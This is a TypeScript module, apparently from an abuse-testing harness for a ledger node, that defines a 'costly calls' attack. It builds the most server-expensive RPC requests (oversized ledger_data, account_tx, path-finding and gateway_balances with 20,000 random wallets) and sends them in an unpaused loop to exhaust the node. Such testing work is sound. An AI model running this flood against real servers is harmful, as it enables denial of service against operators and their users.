import type { Abuse, Target } from '../abuse.ts'
import { outcomeOf } from '../intruder.ts'
import { strangers } from '../random-addresses.ts'

const HOT_WALLETS = 20_000
const PATHS = 6
const STEPS = 8

type Request = Readonly<Record<string, unknown>>

/** Returns the requests with the highest cost for the ledger's thread relative to their cost for the sender. */
function requests({ currency, issuer }: Target): readonly Request[] {
  const asset = { currency, issuer }
  const [source, ...others] = strangers(PATHS + 1)
  const paths = others.map((account) =>
    Array.from({ length: STEPS }, (_, step) => (step % 2 === 0 ? asset : { account })),
  )
  const tx = {
    TransactionType: 'Payment',
    Account: issuer,
    Destination: source,
    Amount: { ...asset, value: '10' },
    SendMax: '100000000',
    Paths: paths,
    Flags: 0x2_0000,
  }
  return [
    { command: 'account_tx', account: issuer, ledger_index_min: -1, ledger_index_max: -1, limit: 100_000 },
    { command: 'simulate', tx_json: tx },
    { command: 'gateway_balances', account: issuer, hotwallet: strangers(HOT_WALLETS) },
    { command: 'ledger_data', limit: 100_000 },
    { command: 'account_lines', account: issuer, limit: 100_000 },
    { command: 'book_offers', taker_pays: { currency: 'SWT' }, taker_gets: asset, limit: 100_000 },
    {
      command: 'ripple_path_find',
      source_account: issuer,
      destination_account: source,
      destination_amount: { ...asset, value: '1' },
    },
    { command: 'ledger', ledger_index: 'validated', transactions: true, expand: true, accounts: true },
  ]
}

let texts: readonly string[] | undefined

/** The most expensive calls, one at a time on each connection, without a pause. */
export const costlyCalls: Abuse = {
  name: 'costly calls',
  async play(intruder) {
    const { index, signal, target } = intruder
    const socket = await intruder.socket(target.nodePort)
    texts ??= requests(target).map((each) => JSON.stringify({ id: 1, ...each }))
    for (let turn = index; !signal.aborted; turn += 1) {
      intruder.count(outcomeOf(await socket.ask(texts[turn % texts.length] ?? '')))
    }
  },
}
